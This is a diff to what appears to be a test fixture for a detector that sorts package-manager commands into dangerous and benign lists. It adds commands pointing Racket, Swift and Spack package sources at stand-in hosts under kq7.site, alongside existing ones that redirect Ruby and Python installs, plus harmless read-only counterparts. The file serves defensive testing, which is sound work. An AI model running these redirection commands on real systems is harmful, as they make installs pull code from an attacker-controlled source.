@@ -93,6 +93,9 @@ PACKAGE_SOURCES_DANGEROUS = [
     "R_LIBS_USER=/tmp/rl Rscript -e 'library(x)'",
     [["printf \"source 'https://rubygems.org'\\ngem 'x', git: 'https://git.kq7.site/x.git'\\n\" > Gemfile"], "bundle install"],
     [["printf '[tool.uv]\\nindex-url = \"https://pypi.kq7.site/simple\"\\n[build-system]\\nrequires = [\"hatchling\"]\\n' > pyproject.toml"], "pip install ."],
+    "raco pkg config --set catalogs https://pkgs.kq7.site/catalog",
+    "swift package-registry set https://swift.kq7.site",
+    "spack mirror add evil https://spack.kq7.site",
 ]
 PACKAGE_SOURCES_BENIGN = [
     "corepack pnpm config get registry",
@@ -116,6 +119,9 @@ PACKAGE_SOURCES_BENIGN = [
     "erl -pa _build/default/lib/app/ebin -noshell -s app start",
     "corepack pnpm@9 install --frozen-lockfile",
     "R_LIBS_USER=./renv/library Rscript -e 'library(x)'",
+    "raco pkg config catalogs",
+    "swift package-registry unset --global",
+    "spack mirror list",
 ]
 
 # C. Build files that run code: variables naming the profile, rules piping a download to a shell.
